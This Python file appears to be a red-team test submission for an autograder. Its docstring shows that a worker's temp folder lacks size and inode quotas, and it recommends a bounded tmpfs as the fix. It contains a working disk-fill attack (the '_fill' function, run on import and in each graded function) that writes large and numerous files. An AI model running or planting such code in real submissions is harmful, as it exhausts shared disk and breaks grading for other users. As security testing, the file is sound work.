"""Limits bypass: the worker's folder has no size or file-count bound.

``RLIMIT_FSIZE`` caps each *file* at 1 MiB, but the worker may create as many files
as it likes in its folder, which is a plain folder on the host's ``/tmp`` (``mkdtemp``
in the grader's TMPDIR): no quota, no tmpfs of bounded size, no inode limit. Measured
here: 600 MiB and ~15 000 files during the import alone (1.5 s and 0.8 s), about
400 MB/s: one submission running for its 60 s fills ~24 GB of the host's disk (48 GB
with --jobs 2), and a million empty files costs the parent's ``rm -rf`` (60 s timeout,
then ``shutil.rmtree`` with none) in the grading thread. A full disk makes classmates'
folders fail to be created and the report fail to be written. The dirty pages are not
charged to the worker's RLIMIT_AS either.

This file is bounded (256 MiB, 20 000 files) so the corpus stays harmless; each
function is right only if its part of the fill worked: sigmoid if 256 MiB could be
written, tanh if 20 000 files could be made.

The grader should give each worker a folder of bounded size and inode count (a small
tmpfs mounted on ``home`` inside the worker's mount namespace, ``size=`` and
``nr_inodes=``, is the obvious one) and say so in the protections.
"""

import os
import time

import numpy as np


def _fill(seconds):
    """Write 1 MiB files, then empty files, for up to ``seconds``."""
    # --- attack
    chunk = b"\0" * (1 << 20)
    t = time.monotonic()
    try:
        os.makedirs("many", exist_ok=True)
        n = len(os.listdir("."))
        while n < 256 + 8 and time.monotonic() - t < seconds:
            with open(f"fill{n}", "wb") as fh:
                fh.write(chunk)
            n += 1
        m = len(os.listdir("many"))
        while m < 20_000 and time.monotonic() - t < seconds:
            os.close(os.open(f"many/{m}", os.O_CREAT | os.O_WRONLY, 0o600))
            m += 1
    except OSError:
        pass
    # --- end


def _bytes():  # read back from the disk: a restart or the import fallback loses nothing
    return sum(os.path.getsize(f) for f in os.listdir(".") if f.startswith("fill"))


def _files():
    return len(os.listdir("many")) if os.path.isdir("many") else 0


_fill(1.5)


def sigmoid(x):
    _fill(0.5)
    if _bytes() >= (256 << 20):
        x = np.asarray(x, dtype=float)
        e = np.exp(-np.abs(x))
        return np.where(x >= 0, 1 / (1 + e), e / (1 + e))
    return np.zeros_like(x)


def tanh(x):
    _fill(0.5)
    if _files() >= 20_000:
        return np.tanh(x)
    return np.zeros_like(x)
